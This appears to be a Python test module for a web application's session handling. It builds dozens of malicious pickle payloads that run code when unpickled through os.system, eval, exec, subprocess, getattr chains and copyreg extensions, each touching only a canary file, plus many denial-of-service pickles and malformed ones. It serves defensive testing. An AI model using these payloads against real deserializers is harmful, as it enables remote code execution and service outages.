"""Pickles that attack whoever reads them.

`live` ones do what they say in Python's own unpickler: each creates its canary, a file. Run as a program with a folder
as its argument, this module proves it: it unpickles every live one, in a process of its own, and prints which
canaries are there. The other attacks aim at memory and time, or at parts that are only reached by mistake.
"""

from __future__ import annotations

import copyreg
import json
import pickle
import struct
import sys
import zlib
from pathlib import Path

from tests.unit.websession import colliding

# What copyreg hands out codes for; EXT1, EXT2 and EXT4 hold one of 1, 2 and 4 bytes.
_EXTENSIONS = {0x42: ("os", "system"), 0x4242: ("posix", "system"), 0x42424242: ("subprocess", "getoutput")}


def _short(text: str) -> bytes:
    """SHORT_BINUNICODE."""
    raw = text.encode()
    return b"\x8c" + bytes([len(raw)]) + raw


def _text(text: str) -> bytes:
    """BINUNICODE."""
    raw = text.encode()
    return b"X" + struct.pack("<I", len(raw)) + raw


def _line(text: str) -> bytes:
    """STRING."""
    return b"S" + repr(text).encode() + b"\n"


def _global(module: str, name: str) -> bytes:
    return f"c{module}\n{name}\n".encode()


class _Reduced:
    def __init__(self, *reduced: object) -> None:
        self.reduced = reduced

    def __reduce__(self) -> tuple[object, ...]:
        return self.reduced


def canaries(folder: Path) -> list[Path]:
    """Those of `live` attacks that have run."""
    return list(folder.glob("canary-*"))


def live(folder: Path) -> dict[str, tuple[bytes, Path]]:  # noqa: C901 - a list of attacks, one after the other
    """By name, a pickle that runs code and the canary that it then creates."""
    attacks: dict[str, tuple[bytes, Path]] = {}

    def canary(name: str) -> Path:
        return folder / f"canary-{name.replace(' ', '-')}"

    def command(name: str) -> str:
        return f"touch {canary(name)}"

    def python(name: str) -> str:
        return f"open({str(canary(name))!r}, 'w').close()"

    def add(name: str, payload: bytes) -> None:
        attacks[name] = (payload, canary(name))

    system = _global("os", "system")
    namespace = b"\x80\x02" + _global("types", "SimpleNamespace") + b")\x81"

    name = "reduce"
    add(name, system + b"(" + _line(command(name)) + b"tR.")
    name = "reduce with a tuple of one"
    add(name, b"\x80\x02" + system + _text(command(name)) + b"\x85R.")
    name = "stack global"
    add(name, b"\x80\x04" + _short("os") + _short("system") + b"\x93" + _text(command(name)) + b"\x85R.")
    name = "nested name in stack global"
    add(
        name,
        b"\x80\x04" + _short("pathlib") + _short("os.system") + b"\x93" + _text(command(name)) + b"\x85R.",
    )
    name = "inst"
    add(name, b"(" + _line(command(name)) + b"ios\nsystem\n.")
    name = "obj"
    add(name, b"(" + system + _line(command(name)) + b"o.")
    name = "memoized function"
    add(name, b"\x80\x02" + system + b"q\x010h\x01" + _text(command(name)) + b"\x85R.")
    name = "duplicated function"
    add(name, b"\x80\x02" + system + b"2" + _text(command(name)) + b"\x85R\x86.")
    name = "build through setstate"
    add(name, namespace + b"}(" + _line("__setstate__") + system + b"ub" + _line(command(name)) + b"b.")
    name = "append"
    add(name, namespace + b"}(" + _line("append") + system + b"ub" + _line(command(name)) + b"a.")
    name = "appends"
    add(name, namespace + b"}(" + _line("append") + system + b"ub(" + _line(command(name)) + b"e.")
    name = "add items"
    add(name, namespace + b"}(" + _line("add") + system + b"ub(" + _line(command(name)) + b"\x90.")
    name = "eval"
    add(name, pickle.dumps(_Reduced(eval, (python(name),))))
    for protocol in range(pickle.HIGHEST_PROTOCOL + 1):
        name = f"exec in protocol {protocol}"
        add(name, pickle.dumps(_Reduced(exec, (python(name),)), protocol))
    name = "python 2 module name"
    add(name, _global("__builtin__", "eval") + b"(" + _line(python(name)) + b"tR.")
    name = "pickle in a pickle"
    inner = system + b"(" + _line(command(name)) + b"tR."
    add(name, b"\x80\x03" + _global("pickle", "loads") + b"C" + bytes([len(inner)]) + inner + b"\x85R.")
    name = "timeit"
    add(name, b"\x80\x02" + _global("timeit", "timeit") + _text("pass") + _text(python(name)) + b"\x86R.")
    name = "subprocess"
    add(
        name,
        b"\x80\x02" + _global("subprocess", "call") + b"](" + _text("touch") + _text(str(canary(name))) + b"e\x85R.",
    )
    name = "subprocess with its output"
    add(
        name,
        b"\x80\x02" + _global("subprocess", "run") + b"](" + _text("touch") + _text(str(canary(name))) + b"e\x85R.",
    )
    name = "partial called later"
    add(
        name,
        b"\x80\x02" + _global("functools", "partial") + system + _text(command(name)) + b"\x86R)R.",
    )
    touch = _global("pathlib", "Path.touch")
    path = _global("pathlib", "Path")
    name = "newobj ex"
    add(name, b"\x80\x04" + touch + path + _text(str(canary(name))) + b"\x85}\x92\x85R.")
    name = "newobj"
    add(name, b"\x80\x04" + touch + path + _text(str(canary(name))) + b"\x85\x81\x85R.")
    name = "reduce function of copyreg"
    add(name, b"\x80\x04" + touch + _global("copyreg", "__newobj__") + path + _text(str(canary(name))) + b"\x86R\x85R.")
    name = "getattr"
    add(
        name,
        b"\x80\x02"
        + _global("builtins", "getattr")
        + _global("builtins", "__import__")
        + _text("os")
        + b"\x85R"
        + _text("system")
        + b"\x86R"
        + _text(command(name))
        + b"\x85R.",
    )
    name = "globals of an allowed function"
    look = _global("builtins", "getattr")
    namespace_get = look + look + _global("copyreg", "_reconstructor") + _text("__globals__") + b"\x86R"
    namespace_get += _text("get") + b"\x86R"
    python_eval = look + namespace_get + _text("__builtins__") + b"\x85R" + _text("get") + b"\x86R"
    python_eval += _text("eval") + b"\x85R"
    add(name, b"\x80\x02" + python_eval + _text(python(name)) + b"\x85R.")
    name = "state setter of reduce"
    add(name, pickle.dumps(_Reduced(dict, (), 1, None, None, _Setter(python(name)))))
    name = "items of reduce"
    add(name, pickle.dumps({"shares": [_Reduced(eval, (python(name),))]}))
    name = "import with side effects"
    (folder / "canary_module.py").write_text(python(name))
    add(name, _global("canary_module", "x") + b".")
    for code in _EXTENSIONS:
        name = f"extension {code}"
        size = (code.bit_length() + 7) // 8
        operation = {1: b"\x82", 2: b"\x83", 4: b"\x84"}[size]
        add(name, b"\x80\x02" + operation + code.to_bytes(size, "little") + _text(command(name)) + b"\x85R.")
    reduced = "value", "key", "connector", "session key", "user id", "settings"
    for where in reduced:
        name = f"in the session as {where}"
        attack: object = _Reduced(eval, (f"{python(name)} or 'evil'",))
        connector: object = {"omero_session_key": "key", "user_id": 1}
        session: dict[object, object] = {"connector": connector, "shares": {}}
        if where == "value":
            session["shares"] = {"a": [1, (2, attack)]}
        elif where == "key":
            session[attack] = 1
        elif where == "connector":
            session["connector"] = attack
        elif where == "session key":
            session["connector"] = {"omero_session_key": attack}
        elif where == "user id":
            session["connector"] = {"omero_session_key": "key", "user_id": attack}
        else:
            session["server_settings"] = {"browser": {"thumb_default_size": attack}}
        add(name, pickle.dumps(session))
    return attacks


class _Setter(_Reduced):
    """A state setter that is itself the result of a call."""

    def __init__(self, source: str) -> None:
        super().__init__(eval, (source,))

    def __call__(self, _object: object, _state: object) -> None:
        raise AssertionError


def bombs() -> dict[str, bytes]:
    """Pickles that claim, nest, repeat or collide, by name.

    None of them is a session: those that are sound as pickles end in something else than a dict, or in nothing.
    """
    laughs = b"\x80\x02]q\x00" + b"".join(
        b"](" + b"h" + bytes([level]) * 1 + (b"h" + bytes([level])) * 9 + b"eq" + bytes([level + 1])
        for level in range(200)
    )
    lengths = {
        "BINSTRING": b"T\xff\xff\xff\x7f",
        "BINSTRING of negative length": b"T\xff\xff\xff\xff",
        "BINUNICODE": b"X\xff\xff\xff\xff",
        "BINUNICODE8": b"\x8d" + b"\xff" * 7 + b"\x7f",
        "BINBYTES": b"B\xff\xff\xff\xff",
        "BINBYTES8": b"\x8e" + b"\xff" * 8,
        "BYTEARRAY8": b"\x96" + b"\xff" * 8,
        "LONG4": b"\x8b\xff\xff\xff\x7f",
        "LONG4 of negative length": b"\x8b\xff\xff\xff\xff",
        "FRAME": b"\x95" + b"\xff" * 8,
    }
    return {
        **{f"length of {name}": b"\x80\x05" + claim + b"x." for name, claim in lengths.items()},
        "billion laughs": laughs + b".",
        "memo index": b"\x80\x02}r\xff\xff\xff\xffj\xff\xff\xff\xff\x86.",
        "memo of everything": b"\x80\x04" + b"\x8f\x94" * 500_000 + b".",
        "stack of sets": b"\x80\x04" + b"\x8f" * 900_000 + b".",
        "stack of duplicates": b"\x80\x04}" + b"2" * 900_000 + b".",
        "marks": b"(" * 900_000 + b".",
        "nested lists": b"\x80\x02" + b"]" * 29_000 + b"a" * 28_999 + b".",
        "nested tuples": b"\x80\x02)" + b"\x85" * 59_000 + b".",
        "nested dicts": b"\x80\x02" + b"}K\x01" * 40_000 + b"}" + b"s" * 40_000 + b"0.",
        "nested states": b"\x80\x02" + b"ca\nb\n}K\x01" * 20_000 + b"N" + b"sb" * 20_000 + b".",
        "list in itself": b"\x80\x02]q\x00h\x00a.",
        "tuple in itself": b"\x80\x02](K\x01h\x00.",
        "state in itself": b"\x80\x02ca\nb\n}q\x00K\x01h\x00sb.",
        "key of a deep tuple": b"\x80\x02})" + b"\x85" * 59_000 + b"K\x01s0.",
        "key of a wide tuple": b"\x80\x02}(" + b"K\x01" * 50_000 + b"tq\x00" + b"K\x01s" + b"h\x00Ns" * 40_000 + b"0.",
        "key whose hash is exponential": b"\x80\x02})" + b"2\x86" * 5_000 + b"K\x01s0.",
        "keys that collide": b"\x80\x02}("
        + b"".join(b"\x8a\x0c" + ((2**61 - 1) * number).to_bytes(12, "little") + b"N" for number in range(1, 29_000))
        + b"u0N.",
        "numbers that collide in a dict": b"\x80\x04}("
        + b"".join(b"J" + struct.pack("<i", number) + b"N" for number in colliding.in_a_dict(15))
        + b"u0N.",
        "numbers that collide in a set": b"\x80\x04\x8f("
        + b"".join(b"J" + struct.pack("<i", number) for number in colliding.in_a_set(13))
        + b"\x900N.",
        "text of escapes": b"S'" + b"\\x41" * 250_000 + b"'\n.",
        "text of escapes, compressed": zlib.compress(b"S'" + b"\\x41" * 500_000 + b"'\n."),
        "names of megabytes": b"}" + b"c" + b"m" * 500_000 + "é".encode() + b"\n" + b"n" * 490_000 + b"\n0N.",
        "long names out of the memo": b"\x80\x04X"
        + (900_000).to_bytes(4, "little")
        + b"m" * 900_000
        + b"\x940"
        + b"h\x00h\x00\x93" * 15_000
        + b".",
        "long keys that are equal": b"\x80\x04}"
        + (b"X" + (480_000).to_bytes(4, "little") + b"k" * 480_000 + b"\x94Ns") * 2
        + b"h\x01Ns" * 17_000
        + b"N.",
        "calls of nothing": b"\x80\x02" + b"ca\nb\n)R0" * 12_000 + b"N.",
        "decimal of many digits": b"L" + b"9" * 1_000_000 + b"L\n.",
        "integer of many bytes": b"\x80\x02\x8b" + struct.pack("<i", 1_000_000) + b"\x7f" * 1_000_000 + b".",
        "float of many digits": b"F" + b"9" * 1_000_000 + b"\n.",
        "line without an end": b"V" + b"x" * 1_000_000,
        "lines without an end": b"(" * 400 + b"S'" * 400_000,
        "ops without end": b"N0" * 400_000 + b"}.",
        "persistent ids": b"P1\n" * 100_000 + b".",
        "buffers out of band": b"\x80\x05\x97\x98.",
        "protocol of the future": b"\x80\xff}.",
        "nothing to stop with": b".",
        "nothing to pop": b"0.",
        "nothing to mark": b"1.",
        "nothing to append to": b"Na.",
        "nothing to duplicate": b"2.",
        "nothing to put": b"q\x00.",
        "nothing there to get": b"h\x07.",
        "nothing to reduce": b"R.",
        "nothing to build": b"b.",
        "open mark at the end": b"(}.",
        "two values at the end": b"}}.",
        "append to a number": b"K\x01K\x02a.",
        "set an item of a list": b"]K\x01K\x02s.",
        "add to a list": b"](K\x01\x90.",
        "call a number": b"K\x01)R.",
        "call nothing": b"(o.",
        "state for a dict": b"}}b.",
        "key without a value": b"}(K\x01u.",
        "key that can change": b"}]Ns.",
        "name that is no text": b"\x80\x04K\x01K\x02\x93.",
        "name that is not UTF-8": b"c\xff\n\xff\n.",
        "text that is not UTF-8": b"X\x01\x00\x00\x00\xff.",
        "escape that is cut off": b"V\\u12\n.",
        "string without quotes": b"Sx\n.",
        "string of one quote": b"S'\n.",
        "integer that is not one": b"I1_0\n.",
        "integer of Arabic digits": "I٣\n.".encode(),
        "float that is not one": b"Fx\n.",
        "operation that does not exist": b"\xfe.",
    }


def main() -> None:
    folder = Path(sys.argv[1])
    sys.path.insert(0, str(folder))
    for code, (module, function) in _EXTENSIONS.items():
        copyreg.add_extension(module, function, code)
    attacks = live(folder)
    for payload, _ in attacks.values():
        try:
            pickle.loads(payload)
        except Exception:
            continue
    print(json.dumps([name for name, (_, canary) in attacks.items() if canary.exists()]))


if __name__ == "__main__":
    main()
